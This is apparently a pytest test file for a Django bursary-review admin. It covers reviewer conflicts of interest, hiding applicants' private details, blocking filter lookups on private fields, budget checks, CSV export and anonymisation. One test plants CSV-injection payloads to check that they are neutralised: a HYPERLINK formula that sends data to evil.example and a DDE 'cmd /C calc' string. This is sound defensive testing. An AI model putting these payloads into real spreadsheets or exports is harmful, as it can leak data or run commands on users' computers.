"""Reviewing and deciding in the Django admin."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from bursaries import services
from bursaries.models import Application, DecisionTemplate, Fund, Review
from sanctuary.models import AuditEvent, OutgoingMessage
from tests.bursaries.conftest import reviewed
from tests.factories import user_with_role

CHANGELIST = reverse("admin:bursaries_application_changelist")


def change_url(application):
    return reverse("admin:bursaries_application_change", args=[application.pk])


def open_url(application):
    return reverse("admin:bursaries_application_open", args=[application.pk])


def review_url(application):
    return reverse("admin:bursaries_application_review", args=[application.pk])


def move_url(application, status):
    return reverse("admin:bursaries_application_move", args=[application.pk, status])


# The list ---------------------------------------------------------------------------------------


def changelist_queries(client, url=CHANGELIST) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries)


def make_applications(submit, reviewer, programme_staff, count, start=0):
    for number in range(start, start + count):
        application = submit(email=f"person{number}@example.org")
        if number % 2:
            application = reviewed(application, reviewer)
        if number % 4 == 1:
            services.application_decide(
                application_id=application.pk,
                outcome=Application.Status.APPROVED,
                actor=programme_staff,
                amount_awarded=Decimal("10"),
                message="Yes",
            )


@pytest.mark.parametrize("person", ["programme_staff", "reviewer"])
def test_the_application_list_needs_the_same_queries_for_5_or_50_applications(
    client, request, submit, reviewer, programme_staff, person, django_assert_max_num_queries
):
    make_applications(submit, reviewer, programme_staff, 5)
    client.force_login(request.getfixturevalue(person))
    with_five = changelist_queries(client)

    make_applications(submit, reviewer, programme_staff, 45, start=5)

    with django_assert_max_num_queries(with_five):
        response = client.get(CHANGELIST)
    assert response.context["cl"].result_count == 50
    assert changelist_queries(client, CHANGELIST + "?status__exact=in_review") == with_five


def test_the_fund_list_needs_the_same_queries_however_many_funds(
    client, programme_staff, fund, submit, django_assert_max_num_queries
):
    submit()
    client.force_login(programme_staff)
    url = reverse("admin:bursaries_fund_changelist")
    with_one = changelist_queries(client, url)
    for number in range(20):
        Fund.objects.create(
            name=f"Fund {number}",
            slug=f"fund-{number}",
            budget=Decimal("100"),
            opens_on=fund.opens_on,
            closes_on=fund.closes_on,
        )
    with django_assert_max_num_queries(with_one):
        client.get(url)


def test_the_list_shows_the_figures_staff_need(client, programme_staff, in_review, reviewer):
    application = in_review()
    reviewed(application, user_with_role("Bursary reviewers"), need=5, benefit=5, fit=2)
    client.force_login(programme_staff)
    html = client.get(CHANGELIST).content.decode()
    for column in [
        "reference",
        "status",
        "fund",
        "what_for",
        "requested_display",
        "awarded_display",
        "review_count",
        "average_score",
        "days_waiting",
        "message_problems",
    ]:
        assert f"column-{column}" in html, column
    assert application.reference in html
    assert "£120.00" in html
    assert '<td class="field-review_count">2</td>' in html
    assert '<td class="field-average_score">4.0</td>' in html  # (12/3 + 12/3) / 2


def test_the_list_can_be_searched_by_reference_and_name(client, programme_staff, submit):
    maryam = submit()
    olena = submit(name="Olena", email="olena@example.org")
    client.force_login(programme_staff)
    found = client.get(CHANGELIST, {"q": olena.reference}).context["cl"].result_list
    assert list(found) == [olena]
    found = client.get(CHANGELIST, {"q": "maryam"}).context["cl"].result_list
    assert list(found) == [maryam]


def test_reviewers_see_the_review_count_and_average_only_after_their_own_review(
    client, in_review, reviewer
):
    application = in_review()
    second = user_with_role("Bursary reviewers")
    client.force_login(second)
    response = client.get(CHANGELIST)
    html = response.content.decode()
    assert '<td class="field-review_count">after your review</td>' in html
    assert '<td class="field-average_score">after your review</td>' in html
    [row] = response.context["cl"].result_list
    assert (row.review_count, row.score_total) == (None, None)

    reviewed(application, second, need=2, benefit=2, fit=2)

    html = client.get(CHANGELIST).content.decode()
    assert "after your review" not in html
    assert '<td class="field-review_count">2</td>' in html
    assert '<td class="field-average_score">3.0</td>' in html  # (12/3 + 6/3) / 2


def test_sorting_by_score_or_reviews_tells_a_reviewer_nothing_before_their_review(
    client, in_review, reviewer
):
    in_review(email="high@example.org")
    low = in_review(email="low@example.org")
    Review.objects.filter(application=low).update(need=1, benefit=1, fit=1)
    second = user_with_role("Bursary reviewers")
    client.force_login(second)
    columns = client.get(CHANGELIST).context["cl"].list_display
    for column in ("average_score", "review_count"):
        index = columns.index(column)
        orders = [
            [
                a.pk
                for a in client.get(CHANGELIST, {"o": f"{sign}{index}"}).context["cl"].result_list
            ]
            for sign in ("", "-")
        ]
        assert orders[0] == orders[1], column


def test_programme_staff_see_every_review_figure_without_reviewing(
    client, in_review, programme_staff
):
    in_review()
    client.force_login(programme_staff)
    [row] = client.get(CHANGELIST).context["cl"].result_list
    assert row.review_count == 1
    assert row.score_total == 12


# Reviewing --------------------------------------------------------------------------------------


def test_a_reviewer_first_meets_the_conflict_question_then_the_details(client, submit, reviewer):
    application = submit(statement="My private story.")
    client.force_login(reviewer)

    response = client.get(change_url(application))
    assert response.status_code == 302
    assert response.url == open_url(application)
    html = client.get(open_url(application)).content.decode()
    assert "conflict of interest" in html
    assert "Maryam" in html
    assert "My private story." not in html
    views = AuditEvent.objects.filter(action="application.view")
    assert [event.detail for event in views] == [{"page": "open"}]

    response = client.post(open_url(application), {"open": "1"})
    assert response.url == change_url(application)
    html = client.get(change_url(application)).content.decode()
    assert "My private story." in html
    assert AuditEvent.objects.filter(actor=reviewer, action="application.open").exists()
    assert views.filter(actor=reviewer, detail__page="details").count() == 1


def test_seeing_the_name_before_opening_is_audited_and_a_conflict_then_is_still_before_reading(
    client, submit, reviewer, programme_staff
):
    application = submit()
    client.force_login(reviewer)
    client.get(open_url(application))
    client.post(open_url(application), {"conflict": "1"})

    event = AuditEvent.objects.get(action="application.view")
    assert (event.actor, event.object_id, event.detail) == (
        reviewer,
        str(application.pk),
        {"page": "open"},
    )
    review = Review.objects.get()
    assert review.conflict_of_interest and not review.conflict_after_viewing
    assert AuditEvent.objects.get(action="application.conflict").detail == {"after_viewing": False}
    client.force_login(programme_staff)
    html = client.get(change_url(application)).content.decode()
    assert "Saw the name and who referred them, before opening it" in html
    assert "Declared a conflict of interest before reading it" in html


def test_a_reviewer_new_to_a_decided_application_is_told_so_without_personal_details(
    client, in_review, programme_staff, partner
):
    application = in_review(
        name="Zahra Karimi",
        referrer_organisation=partner,
        referrer_name="Jo Caseworker",
        referrer_consent=True,
    )
    services.application_decide(
        application_id=application.pk,
        outcome=Application.Status.DECLINED,
        actor=programme_staff,
        message="Sorry.",
    )
    latecomer = user_with_role("Bursary reviewers")
    client.force_login(latecomer)

    assert client.get(change_url(application)).url == open_url(application)
    for response in [
        client.get(open_url(application)),
        client.post(open_url(application), {"open": "1"}),
    ]:
        assert response.status_code == 200
        html = response.content.decode()
        assert "This application has already been decided" in html
        assert application.reference in html
        for private in ["Zahra", "Karimi", "Jo Caseworker", "I have no conflict of interest"]:
            assert private not in html, private
    assert not Review.objects.filter(reviewer=latecomer).exists()
    assert not AuditEvent.objects.filter(actor=latecomer).exists()


def test_a_reviewer_new_to_an_anonymised_application_is_told_so(client, submit, reviewer):
    application = submit()
    Application.objects.filter(pk=application.pk).update(name="", anonymised_at=timezone.now())
    client.force_login(reviewer)
    response = client.get(open_url(application))
    assert "This application has been anonymised." in response.content.decode()
    assert "I have no conflict of interest" not in response.content.decode()
    assert not AuditEvent.objects.filter(actor=reviewer).exists()


def test_staff_who_decide_go_straight_to_a_decided_application(client, in_review, programme_staff):
    application = in_review()
    services.application_decide(
        application_id=application.pk,
        outcome=Application.Status.DECLINED,
        actor=programme_staff,
        message="Sorry.",
    )
    client.force_login(programme_staff)
    assert client.get(open_url(application)).url == change_url(application)


def test_a_reviewer_who_declares_a_conflict_never_sees_the_application_again(
    client, submit, reviewer
):
    application = submit(statement="My private story.")
    client.force_login(reviewer)
    response = client.post(open_url(application), {"conflict": "1"})
    assert response.url == CHANGELIST

    assert list(client.get(CHANGELIST).context["cl"].result_list) == []
    # The admin's "it does not exist" answers: back to the admin's home, or not found.
    assert client.get(change_url(application)).url == reverse("admin:index")
    for url in [open_url(application), review_url(application), conflict_url(application)]:
        response = client.get(url)
        assert response.status_code == 404, url
        assert "My private story." not in response.content.decode()
    review_list = client.get(reverse("admin:bursaries_review_changelist")).content.decode()
    assert application.reference not in review_list
    assert Review.objects.get().conflict_of_interest


def conflict_url(application):
    return reverse("admin:bursaries_application_conflict", args=[application.pk])


def test_a_reviewer_can_still_declare_a_conflict_after_reading_and_it_says_so(
    client, submit, reviewer
):
    application = submit()
    client.force_login(reviewer)
    client.post(open_url(application), {"open": "1"})
    change = client.get(change_url(application)).content.decode()
    assert conflict_url(application) in change

    page = client.get(conflict_url(application))
    assert page.status_code == 200
    assert "after reading it" in page.content.decode()
    response = client.post(conflict_url(application), {"conflict": "1"})
    assert response.url == CHANGELIST

    assert list(client.get(CHANGELIST).context["cl"].result_list) == []
    assert client.get(change_url(application)).status_code == 302
    review = Review.objects.get()
    assert review.conflict_of_interest and review.conflict_after_viewing
    event = AuditEvent.objects.get(action="application.conflict")
    assert event.detail == {"after_viewing": True}


def test_a_reviewer_scores_on_the_rubric_in_the_admin(client, submit, reviewer):
    application = submit()
    client.force_login(reviewer)
    client.post(open_url(application), {"open": "1"})
    form = client.get(review_url(application)).content.decode()
    assert "Could not take part at all without help" in form
    response = client.post(
        review_url(application),
        {"need": "5", "benefit": "4", "fit": "3", "recommendation": "yes", "comment": "Clear."},
    )
    assert response.url == change_url(application)
    review = Review.objects.get()
    assert (review.need, review.benefit, review.fit, review.recommendation) == (5, 4, 3, "yes")
    application.refresh_from_db()
    assert application.status == Application.Status.IN_REVIEW


def test_a_submitted_review_cannot_be_changed_in_the_admin(client, submit, reviewer):
    application = submit()
    client.force_login(reviewer)
    client.post(open_url(application), {"open": "1"})
    client.post(
        review_url(application),
        {"need": "2", "benefit": "2", "fit": "2", "recommendation": "no", "comment": "Unsure."},
    )
    change = client.get(change_url(application))
    assert change.status_code == 200
    assert review_url(application) not in change.content.decode()

    page = client.get(review_url(application))
    assert page.status_code == 302
    assert page.url == change_url(application)
    response = client.post(
        review_url(application),
        {"need": "5", "benefit": "5", "fit": "5", "recommendation": "yes", "comment": "Sure!"},
    )
    assert response.status_code == 302
    review = Review.objects.get()
    assert (review.need, review.recommendation, review.comment) == (2, "no", "Unsure.")


def test_an_incomplete_review_is_shown_again_with_what_was_chosen(client, submit, reviewer):
    application = submit()
    client.force_login(reviewer)
    client.post(open_url(application), {"open": "1"})
    response = client.post(review_url(application), {"need": "5", "comment": "Half done"})
    assert response.status_code == 200
    assert "Half done" in response.content.decode()
    assert Review.objects.get().submitted_at is None


def test_reviewers_see_other_reviews_only_after_submitting_their_own(client, in_review, reviewer):
    application = in_review()
    Review.objects.filter(reviewer=reviewer).update(comment="First reviewer's view")
    second = user_with_role("Bursary reviewers")
    client.force_login(second)
    client.post(open_url(application), {"open": "1"})
    assert "First reviewer&#x27;s view" not in client.get(change_url(application)).content.decode()

    client.post(
        review_url(application),
        {"need": "3", "benefit": "3", "fit": "3", "recommendation": "maybe"},
    )
    assert "First reviewer&#x27;s view" in client.get(change_url(application)).content.decode()


@pytest.mark.parametrize(
    "contact",
    [
        {"email": "maryam@example.org"},
        {"contact_method": "phone", "email": "", "phone": "+447911123456"},
        {
            "contact_method": "referrer",
            "email": "",
            "referrer_name": "Jo",
            "referrer_email": "jo@newroutes.example.org",
            "referrer_consent": True,
        },
    ],
    ids=["email", "phone", "referrer"],
)
def test_only_those_who_decide_see_how_to_reach_the_applicant(
    client, submit, reviewer, programme_staff, contact
):
    application = submit(**contact)
    private = next(
        value for key, value in contact.items() if "@" in str(value) or "+44" in str(value)
    )
    client.force_login(reviewer)
    client.post(open_url(application), {"open": "1"})
    page = client.get(change_url(application))
    assert page.status_code == 200
    assert "I would love to be on a stage again." in page.content.decode()
    assert private not in page.content.decode()
    assert list(client.get(CHANGELIST, {"q": private}).context["cl"].result_list) == []

    client.force_login(programme_staff)
    assert private in client.get(change_url(application)).content.decode()
    found = client.get(CHANGELIST, {"q": private}).context["cl"].result_list
    assert list(found) == [application]


@pytest.mark.parametrize(
    "lookup",
    [
        "email__startswith",
        "phone__contains",
        "referrer_email__startswith",
        "status_token__startswith",
        "statement__icontains",
        "name__startswith",
        "reviews__comment__icontains",
        "status__regex",
        "messages__isnull",
    ],
)
@pytest.mark.parametrize("person", ["reviewer", "programme_staff"])
def test_the_list_takes_no_filter_on_private_details_from_the_address(
    client, request, submit, person, lookup
):
    """Django's admin otherwise filters on any of the model's own fields named in the
    address, with which a detail someone may not see can be guessed a letter at a time."""
    application = submit(email="secret@example.org")
    client.force_login(request.getfixturevalue(person))
    value = {
        "email__startswith": "secret",
        "phone__contains": "7",
        "referrer_email__startswith": "",
        "status_token__startswith": application.status_token[:3],
        "statement__icontains": "stage",
        "name__startswith": "Mar",
        "reviews__comment__icontains": "a",
        "status__regex": "(",
        "messages__isnull": "True",
    }[lookup]

    response = client.get(CHANGELIST, {lookup: value})

    # Django answers a refused filter by sending the list back with ?e=1 (or a 400).
    assert response.status_code in (302, 400)
    if response.status_code == 302:
        assert "e=1" in response["Location"]


def test_the_sidebar_filters_still_work(client, submit, reviewer, fund):
    application = submit()
    client.force_login(reviewer)
    for query in (
        {"status__exact": "submitted"},
        {"fund__id__exact": fund.pk},
        {"language__exact": "fa"},
    ):
        response = client.get(CHANGELIST, query)
        assert response.status_code == 200, query
        assert list(response.context["cl"].result_list) == [application], query


NAME = "مریم"
THEIR_WORDS = {
    "name": NAME,
    "statement": "می‌خواهم دوباره روی صحنه بروم.",
    "own_words": "کارگاه عکاسی",
    "referrer_name": "Олена",
}
COMMENT = "نیاز روشن است."


@pytest.fixture
def in_their_words(in_review, partner, reviewer, programme_staff):
    application = in_review(
        referrer_organisation=partner,
        referrer_consent=True,
        opportunity=None,
        **THEIR_WORDS,
    )
    Review.objects.update(comment=COMMENT)
    services.application_transition(
        application_id=application.pk,
        to_status=Application.Status.MORE_INFORMATION,
        actor=programme_staff,
        message=f"{NAME} عزیز، هزینه اتوبوس چقدر است؟",
    )
    return application


def test_what_applicants_and_reviewers_wrote_finds_its_own_direction_on_every_admin_page(
    client, in_their_words, programme_staff
):
    from tests.bursaries.conftest import assert_in_its_own_direction

    application = in_their_words
    client.force_login(programme_staff)
    pages = {
        "details": client.get(change_url(application)),
        "decide": client.get(move_url(application, "declined")),
        "review list": client.get(
            reverse("admin:bursaries_review_change", args=[Review.objects.get().pk])
        ),
    }
    for name, page in pages.items():
        assert page.status_code == 200, name
    html = pages["details"].content.decode()
    for text in [*THEIR_WORDS.values(), COMMENT, "هزینه اتوبوس"]:
        assert_in_its_own_direction(html, text)
    assert_in_its_own_direction(pages["decide"].content.decode(), NAME)
    assert_in_its_own_direction(pages["review list"].content.decode(), COMMENT)


def test_what_applicants_wrote_finds_its_own_direction_on_the_reviewers_pages(
    client, in_their_words
):
    from tests.bursaries.conftest import assert_in_its_own_direction

    application = in_their_words
    client.force_login(user_with_role("Bursary reviewers"))
    html = client.get(open_url(application)).content.decode()
    assert_in_its_own_direction(html, NAME)
    assert_in_its_own_direction(html, THEIR_WORDS["referrer_name"])
    client.post(open_url(application), {"open": "1"})
    html = client.get(review_url(application)).content.decode()
    assert_in_its_own_direction(html, THEIR_WORDS["statement"])
    assert_in_its_own_direction(html, THEIR_WORDS["own_words"])


# Deciding ---------------------------------------------------------------------------------------


def test_a_reviewer_cannot_decide_in_the_admin(client, in_review, reviewer, decision_templates):
    application = in_review()
    client.force_login(reviewer)
    assert client.get(move_url(application, "approved")).status_code == 403
    response = client.post(
        move_url(application, "approved"), {"amount_awarded": "100", "message": "Yes"}
    )
    assert response.status_code == 403
    assert client.get(CHANGELIST).context["action_form"] is None  # no bulk decisions, no export
    # A complete bulk approval, as programme staff would send it, still changes nothing.
    client.post(
        CHANGELIST,
        {
            "action": "approve_selected",
            ACTION_CHECKBOX_NAME: [application.pk],
            "confirm": "1",
            "template": decision_templates["approved"].pk,
        },
    )
    application.refresh_from_db()
    assert application.status == Application.Status.IN_REVIEW


def test_staff_approve_with_a_message_prefilled_in_the_applicants_language(
    client, in_review, programme_staff, decision_templates, fund, django_capture_on_commit_callbacks
):
    application = in_review(language="fa")
    client.force_login(programme_staff)
    page = client.get(move_url(application, "approved"))
    draft = page.context["form"]["message"].value()
    # The amount goes in once staff confirm how much they award.
    assert draft == "Maryam عزیز، approved {amount}."
    assert '<bdi dir="ltr">£1,000.00</bdi> left' in page.content.decode()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            move_url(application, "approved"),
            {"amount_awarded": "100", "message": draft},
            follow=True,
        )
    application.refresh_from_db()
    assert application.status == Application.Status.APPROVED
    assert application.amount_awarded == Decimal("100.00")
    assert application.decided_by == programme_staff
    assert "£900.00 is left" in response.content.decode()
    message = OutgoingMessage.objects.get(template="bursary_decision")
    assert message.language == "fa"
    assert message.status == OutgoingMessage.Status.SENT
    assert application.messages.get().body == "Maryam عزیز، approved \u2066£100.00\u2069."


def test_another_template_can_be_chosen_to_start_from(
    client, in_review, programme_staff, decision_templates
):
    application = in_review(language="en")
    other = DecisionTemplate.objects.create(
        outcome="declined", name="Next round", body="{name}, try the next round."
    )
    client.force_login(programme_staff)
    page = client.get(move_url(application, "declined"), {"template": other.pk})
    assert page.context["form"]["message"].value() == "Maryam, try the next round."


def test_the_admin_refuses_an_award_bigger_than_what_is_left(client, in_review, programme_staff):
    application = in_review()
    client.force_login(programme_staff)
    with translation.override("uk"):
        url = move_url(application, "approved")
        expected = translation.gettext(
            "That is more than is left in %(fund)s: %(left)s of %(budget)s."
        )
    assert url.startswith("/uk/")
    response = client.post(url, {"amount_awarded": "1000.01", "message": "Так"})
    assert response.status_code == 200
    html = response.content.decode()
    assert expected.split("%(fund)s")[0] in html
    assert "That is more than is left" not in html
    assert response.context["form"].errors["amount_awarded"]
    assert response.context["form"]["message"].value() == "Так"
    application.refresh_from_db()
    assert application.status == Application.Status.IN_REVIEW
    assert application.amount_awarded is None
    assert not application.messages.exists()
    assert not OutgoingMessage.objects.filter(template="bursary_decision").exists()
    assert not AuditEvent.objects.filter(action="application.approved").exists()


def test_a_move_the_rules_do_not_allow_is_not_offered(client, submit, programme_staff):
    application = submit()
    client.force_login(programme_staff)
    html = client.get(change_url(application)).content.decode()
    assert move_url(application, "approved") not in html  # not before a review
    assert move_url(application, "in_review") in html
    assert client.get(move_url(application, "approved")).status_code == 404


@pytest.mark.parametrize("code", ["ar", "fa"])
def test_amounts_are_written_the_british_way_left_to_right_on_right_to_left_pages(
    client, in_review, programme_staff, decision_templates, fund, code
):
    fund.budget = Decimal("12500.00")
    fund.save()
    application = in_review(amount_requested=Decimal("1200.50"))
    client.force_login(programme_staff)
    with translation.override(code):
        pages = [
            client.get(change_url(application)),
            client.get(move_url(application, "approved")),
            client.post(
                reverse("admin:bursaries_application_changelist"),
                {"action": "approve_selected", ACTION_CHECKBOX_NAME: [application.pk]},
            ),
        ]
    for page in pages:
        html = page.content.decode()
        assert f'<html lang="{code}" dir="rtl">' in html
        assert '<bdi dir="ltr">£12,500.00</bdi>' in html
        for wrong in ["12.500", "12٬500", "12,500.00£", "£12500", "1.200,50"]:
            assert wrong not in html, wrong
    assert '<bdi dir="ltr">£1,200.50</bdi>' in pages[1].content.decode()


def bulk(client, action, applications, **extra):
    return client.post(
        CHANGELIST,
        {"action": action, ACTION_CHECKBOX_NAME: [a.pk for a in applications], **extra},
    )


def test_bulk_approval_asks_for_confirmation_then_approves(
    client, in_review, programme_staff, decision_templates
):
    applications = [
        in_review(email=f"p{n}@example.org", amount_requested=Decimal("400")) for n in range(2)
    ]
    client.force_login(programme_staff)

    confirm = bulk(client, "approve_selected", applications)
    assert confirm.status_code == 200
    assert (
        'these ask for <bdi dir="ltr">£800.00</bdi>; <bdi dir="ltr">£1,000.00</bdi> is left'
        in confirm.content.decode()
    )
    assert not Application.objects.filter(status="approved").exists()

    template = decision_templates["approved"]
    response = bulk(client, "approve_selected", applications, confirm="1", template=template.pk)
    assert response.status_code == 302
    statuses = [Application.objects.get(pk=a.pk).status for a in applications]
    assert statuses == ["approved", "approved"]
    approved = Application.objects.filter(status="approved").first()
    assert approved.messages.get().body == "Maryam عزیز، approved \u2066£400.00\u2069."
    assert AuditEvent.objects.filter(action="application.approved").count() == 2


def test_a_bulk_approval_over_budget_changes_nothing_and_says_why_in_the_pages_language(
    client, in_review, programme_staff, decision_templates, fund
):
    applications = [
        in_review(email=f"p{n}@example.org", amount_requested=Decimal("400")) for n in range(3)
    ]
    client.force_login(programme_staff)
    with translation.override("uk"):
        changelist = reverse("admin:bursaries_application_changelist")
    response = client.post(
        changelist,
        {
            "action": "approve_selected",
            ACTION_CHECKBOX_NAME: [a.pk for a in applications],
            "confirm": "1",
            "template": decision_templates["approved"].pk,
        },
        follow=True,
    )
    assert response.status_code == 200
    [message] = [str(m) for m in response.context["messages"]]
    with translation.override("uk"):
        nothing = translation.gettext("Nothing was changed.")
    assert message.startswith(nothing)
    assert fund.name in message
    assert not Application.objects.filter(status="approved").exists()
    assert not AuditEvent.objects.filter(action="application.approved").exists()
    assert not OutgoingMessage.objects.filter(template="bursary_decision").exists()
    assert not any(a.messages.exists() for a in applications)


def test_a_bulk_decision_with_one_application_that_cannot_be_decided_changes_nothing(
    client, in_review, submit, programme_staff, decision_templates
):
    reviewed_one = in_review()
    not_reviewed = submit(email="new@example.org")  # cannot be approved before a review
    client.force_login(programme_staff)
    response = bulk(
        client,
        "approve_selected",
        [reviewed_one, not_reviewed],
        confirm="1",
        template=decision_templates["approved"].pk,
    )
    assert response.status_code == 302
    reviewed_one.refresh_from_db()
    assert reviewed_one.status == Application.Status.IN_REVIEW
    messages = [str(m) for m in client.get(CHANGELIST).context["messages"]]
    assert any(not_reviewed.reference in m for m in messages), messages


def test_bulk_decline_sends_each_person_the_template_in_their_language(
    client, in_review, programme_staff, decision_templates
):
    persian = in_review(language="fa")
    english = in_review(language="en", email="e@example.org")
    client.force_login(programme_staff)
    bulk(
        client,
        "decline_selected",
        [persian, english],
        confirm="1",
        template=decision_templates["declined"].pk,
    )
    persian.refresh_from_db()
    english.refresh_from_db()
    assert persian.messages.get().body == "Maryam عزیز، declined ."
    assert english.messages.get().body == "Dear Maryam, declined ."


def test_the_csv_export_has_figures_but_no_personal_data(
    client, in_review, programme_staff, partner
):
    application = in_review(
        name="Zahra Karimi",
        contact_method=Application.Contact.REFERRER,
        email="",
        referrer_organisation=partner,
        referrer_name="Jo Caseworker",
        referrer_email="jo@newroutes.example.org",
        referrer_consent=True,
        statement="Something very personal.",
    )
    in_review(name="Olena Petrenko", contact_method="phone", email="", phone="+447911123456")
    Review.objects.update(comment="A private comment.")
    client.force_login(programme_staff)

    response = bulk(client, "export_csv", Application.objects.all(), select_across="1", index="0")

    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    for private in [
        "Zahra",
        "Karimi",
        "Olena",
        "+447911123456",
        "7911",
        "jo@newroutes",
        "Jo Caseworker",
        "@",
        "Something very personal",
        "A private comment",
    ]:
        assert private not in text, private
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    row = next(row for row in rows if row["reference"] == application.reference)
    assert row["requested"] == "120.00"
    assert row["referred_by"] == "New Routes"
    assert row["support_course_fee"] == "yes"
    assert row["average_score"] == "4.0"
    assert AuditEvent.objects.filter(action="application.export", actor=programme_staff).exists()


def test_export_this_list_gives_funders_every_application_the_list_shows(
    client, submit, in_review, programme_staff, reviewer
):
    reviewed = in_review(email="a@example.org")
    waiting = submit(email="b@example.org")
    client.force_login(programme_staff)
    export = reverse("admin:bursaries_application_export")
    page = client.get(CHANGELIST, {"status__exact": "in_review"}).content.decode()
    assert f'href="{export}?status__exact=in_review"' in page

    filtered = client.get(export, {"status__exact": "in_review"})
    everything = client.get(export)

    assert filtered["Content-Type"].startswith("text/csv")
    references = [row["reference"] for row in csv.DictReader(io.StringIO(filtered.text))]
    assert references == [reviewed.reference]
    references = [row["reference"] for row in csv.DictReader(io.StringIO(everything.text))]
    assert sorted(references) == sorted([reviewed.reference, waiting.reference])
    assert "Maryam" not in everything.text
    # A filter the list would not take is not taken here either.
    refused = client.get(export, {"email__startswith": "a"})
    assert refused.status_code in (302, 400)
    assert AuditEvent.objects.filter(action="application.export").count() == 2

    # Reviewers have no export: neither the link nor the address.
    client.force_login(reviewer)
    assert export not in client.get(CHANGELIST).content.decode()
    assert client.get(export).status_code == 403


def test_the_csv_export_cannot_carry_a_spreadsheet_formula(
    client, submit, programme_staff, opportunity, partner, fund
):
    opportunity.title = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    opportunity.save()
    fund.name = "+SUM(1,2)"
    fund.save()
    partner.name = "@cmd|' /C calc'!A0"
    partner.save()
    submit(referrer_organisation=partner, referrer_consent=True)
    client.force_login(programme_staff)

    response = bulk(client, "export_csv", Application.objects.all())

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["opportunity"] == "'" + opportunity.title
    assert row["fund"] == "'+SUM(1,2)"
    assert row["referred_by"] == "'@cmd|' /C calc'!A0"
    assert row["requested"] == "120.00"  # numbers stay numbers
    assert row["status"] == "submitted"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    from bursaries.exports import spreadsheet_safe

    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe(f"a{start}") == f"a{start}"
    assert spreadsheet_safe(Decimal("-1")) == Decimal("-1")


def test_an_export_leaves_out_what_a_conflict_hides_even_when_searched_for(
    client, in_review, programme_staff
):
    known = in_review(name="Zahra Karimi")
    other = in_review(email="other@example.org")
    services.review_declare_conflict(application_id=known.pk, reviewer=programme_staff)
    client.force_login(programme_staff)
    export = reverse("admin:bursaries_application_export")

    chosen = bulk(client, "export_csv", [other], select_across="1", index="0")
    searched = client.get(export, {"q": "Zahra"})
    # A POST naming the export but nothing else falls through to the list: the same list.
    fallen_through = client.post(CHANGELIST, {"action": "export_csv"})

    assert [row["reference"] for row in csv.DictReader(io.StringIO(chosen.text))] == [
        other.reference
    ]
    assert list(csv.DictReader(io.StringIO(searched.text))) == []
    assert known.reference not in fallen_through.content.decode()
    assert client.get(change_url(known)).status_code == 302


# Removing personal details on request -----------------------------------------------------------


def test_staff_remove_personal_details_on_request_after_a_confirmation(
    client, in_review, submit, programme_staff
):
    first = in_review(name="Zahra Karimi", statement="Something very personal.")
    second = submit(name="Olena Petrenko", email="olena@example.org")
    untouched = submit(name="Amal", email="amal@example.org")
    client.force_login(programme_staff)
    assert "anonymise_selected" in client.get(CHANGELIST).content.decode()

    confirm = bulk(client, "anonymise_selected", [first, second])

    assert confirm.status_code == 200
    html = confirm.content.decode()
    assert first.reference in html and second.reference in html
    for private in ["Zahra", "Olena", "Something very personal."]:
        assert private not in html, private
    assert "This cannot be undone." in html
    assert not Application.objects.filter(anonymised_at__isnull=False).exists()

    response = bulk(client, "anonymise_selected", [first, second], confirm="1")

    assert response.status_code == 302
    for application in (first, second):
        application.refresh_from_db()
        assert application.anonymised_at is not None
        assert (application.name, application.email, application.statement) == ("", "", "")
    untouched.refresh_from_db()
    assert untouched.name == "Amal"
    events = AuditEvent.objects.filter(action="application.anonymise", actor=programme_staff)
    assert sorted(e.object_id for e in events) == sorted([str(first.pk), str(second.pk)])
    [message] = [str(m) for m in client.get(CHANGELIST).context["messages"]]
    assert first.reference in message and second.reference in message


def test_the_audit_trail_says_when_personal_details_were_removed_and_why(
    client, submit, programme_staff, settings
):
    on_request = submit()
    on_schedule = submit(email="old@example.org")
    services.application_anonymise(application_id=on_request.pk, actor=programme_staff)
    Application.objects.filter(pk=on_schedule.pk).update(
        submitted_at=services.months_before(timezone.now(), 30)
    )
    services.applications_anonymise()
    client.force_login(programme_staff)

    with translation.override("uk"):
        requested = client.get(change_url(on_request)).content.decode()
        scheduled = client.get(change_url(on_schedule)).content.decode()
        assert translation.gettext("Personal details removed on request") in requested
        assert translation.gettext("Personal details removed after the set time") in scheduled
    assert "application.anonymise" not in requested + scheduled


def test_removing_personal_details_already_removed_changes_nothing(client, submit, programme_staff):
    application = submit()
    services.application_anonymise(application_id=application.pk, actor=programme_staff)
    client.force_login(programme_staff)

    confirm = bulk(client, "anonymise_selected", [application]).content.decode()
    assert "already removed" in confirm
    bulk(client, "anonymise_selected", [application], confirm="1")

    messages = [str(m) for m in client.get(CHANGELIST).context["messages"]]
    assert messages == ["Nothing was changed."]
    assert AuditEvent.objects.filter(action="application.anonymise").count() == 1


def test_a_reviewer_can_neither_see_nor_use_the_removal_of_personal_details(
    client, in_review, reviewer
):
    application = in_review()
    client.force_login(reviewer)
    assert "anonymise_selected" not in client.get(CHANGELIST).content.decode()

    for extra in [{}, {"confirm": "1"}]:
        response = bulk(client, "anonymise_selected", [application], **extra)
        # Refused: the list again (a reviewer has no actions at all), no confirmation.
        assert response.status_code in {200, 302}
        assert "This cannot be undone." not in response.content.decode()

    application.refresh_from_db()
    assert application.name == "Maryam"
    assert application.anonymised_at is None
    assert not AuditEvent.objects.filter(action="application.anonymise").exists()


# Audit and failed messages ----------------------------------------------------------------------


def test_reading_an_application_on_its_page_or_its_review_page_is_audited(client, submit, reviewer):
    application = submit()
    client.force_login(reviewer)
    client.post(open_url(application), {"open": "1"})
    client.get(change_url(application))
    client.get(review_url(application))
    views = AuditEvent.objects.filter(action="application.view", actor=reviewer)
    assert sorted(event.detail.get("page") for event in views) == ["details", "review"]
    assert {event.object_id for event in views} == {str(application.pk)}


def test_previewing_a_decision_message_is_audited(
    client, in_review, programme_staff, decision_templates
):
    application = in_review()
    client.force_login(programme_staff)
    client.get(move_url(application, "declined"))
